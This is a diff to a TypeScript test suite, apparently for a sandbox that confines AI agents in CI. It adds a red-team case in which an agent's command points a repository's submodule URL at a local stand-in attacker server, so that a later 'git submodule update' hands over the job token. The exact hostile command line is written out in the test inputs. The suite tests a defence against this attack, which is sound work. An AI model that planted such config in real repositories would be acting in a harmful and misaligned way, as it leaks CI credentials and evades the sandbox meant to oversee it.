@@ -11,6 +11,8 @@
  */
 import { spawn } from 'node:child_process'
 import { randomBytes } from 'node:crypto'
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { execFileSync } from 'node:child_process'
 import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
@@ -621,6 +623,87 @@ describe.skipIf(!hasDocker)('red team 3: what a later plain git push writes', ()
     } finally {
       rmSync(ws, { recursive: true, force: true })
       rmSync(origin, { recursive: true, force: true })
+      rmSync(scratch, { recursive: true, force: true })
+    }
+  })
+})
+
+/**
+ * Class 102: `submodule.<name>.url` in `.git/config`, which git copies there on `submodule
+ * init` and never overwrites. A later step's `git submodule update --init` clones from it,
+ * and hands the credentials its askpass or helper gives to wherever it points.
+ */
+describe.skipIf(!hasDocker)('red team 3: a submodule URL in the repository’s config', () => {
+  it('102.1 submodule.<name>.url pointed at the attacker', async () => {
+    const attack =
+      'the agent adds a submodule (a gitlink and a `.gitmodules` entry naming github.com) and sets `submodule.lib.url` in `.git/config` to its own server; a later step runs `git submodule update --init` with `GIT_ASKPASS` handing out the job token'
+    const token = `ghs_Redteam3JobToken${randomBytes(12).toString('hex')}`
+    const received: string[] = []
+    const server = http.createServer((req, res) => {
+      const auth = req.headers.authorization ?? ''
+      received.push(/^basic /i.test(auth) ? Buffer.from(auth.slice(6), 'base64').toString() : auth)
+      res.writeHead(auth ? 403 : 401, { 'www-authenticate': 'Basic realm="GitHub"' })
+      res.end()
+    })
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
+    const port = (server.address() as AddressInfo).port
+    const ws = mkdtempSync(join(tmpdir(), 'airlock-rt3ws-'))
+    const scratch = mkdtempSync(join(tmpdir(), 'airlock-rt3later-'))
+    const askpass = join(scratch, 'askpass.sh')
+    writeFileSync(
+      askpass,
+      `#!/bin/sh\ncase "$1" in Username*) echo x-access-token;; *) echo ${token};; esac\n`,
+      { mode: 0o755 }
+    )
+    const env = {
+      ...process.env,
+      GIT_CONFIG_NOSYSTEM: '1',
+      HOME: scratch,
+      GIT_TERMINAL_PROMPT: '0',
+      GIT_CONFIG_COUNT: '1',
+      GIT_CONFIG_KEY_0: 'safe.directory',
+      GIT_CONFIG_VALUE_0: '*'
+    }
+    try {
+      const git = (args: string[]): string =>
+        execFileSync('git', args, { cwd: ws, encoding: 'utf8', env })
+      git(['init', '-q', '--initial-branch=main'])
+      writeFileSync(join(ws, 'a.txt'), 'a\n')
+      git(['add', '-A'])
+      git(['-c', 'user.name=m', '-c', 'user.email=m@example.com', 'commit', '-qm', 'base'])
+      const id = runnerIdentity()
+      if (id) execFileSync('chown', ['-R', `${id.uid}:${id.gid}`, ws, scratch])
+      const run = await runAction({
+        env: { GITHUB_WORKSPACE: ws },
+        inputs: {
+          image: TEST_IMAGE,
+          'timeout-minutes': '3',
+          command: `git config --global --add safe.directory '*'; printf '[submodule "lib"]\\n\\tpath = lib\\n\\turl = https://github.com/octo/lib\\n' > .gitmodules && git update-index --add --cacheinfo 160000,${'1'.repeat(40)},lib && git config submodule.lib.url http://127.0.0.1:${port}/octo/lib`
+        }
+      })
+      const problems: string[] = []
+      if (run.main.code !== 0)
+        problems.push(`main failed: ${run.main.stdout.split('\n').slice(-5).join(' ')}`)
+      // Not the synchronous git: the attacker's server lives in this process and must answer.
+      await laterStep(['submodule', 'update', '--init'], ws, { ...env, GIT_ASKPASS: askpass })
+      if (received.some((r) => r.includes(token)))
+        problems.push("the later step's job token reached the attacker's server")
+      if (!/removed submodule\.lib\.url, which the run set/.test(run.main.stdout))
+        problems.push('the step log does not say what was taken back')
+      results.push({
+        id: '102.1',
+        cls: 102,
+        attack,
+        outcome:
+          problems.length === 0
+            ? 'taken back after the run and reported; the later step’s token went nowhere the agent chose'
+            : problems.join('; '),
+        verdict: problems.length === 0 ? 'pass' : 'fail'
+      })
+      expect(problems).toEqual([])
+    } finally {
+      server.close()
+      rmSync(ws, { recursive: true, force: true })
       rmSync(scratch, { recursive: true, force: true })
     }
   })
